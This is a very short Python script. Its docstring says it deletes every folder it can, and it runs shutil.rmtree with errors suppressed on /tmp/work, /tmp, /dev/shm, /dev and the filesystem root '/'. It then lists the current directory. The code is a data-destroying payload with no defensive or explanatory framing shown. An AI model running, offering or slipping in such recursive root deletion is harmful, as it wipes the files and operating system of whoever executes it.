"""Deletes every folder that it may, its own among them."""

import os
import shutil

for folder in ("/tmp/work", "/tmp", "/dev/shm", "/dev", "/"):
    shutil.rmtree(folder, ignore_errors=True)
os.listdir(".")[0]
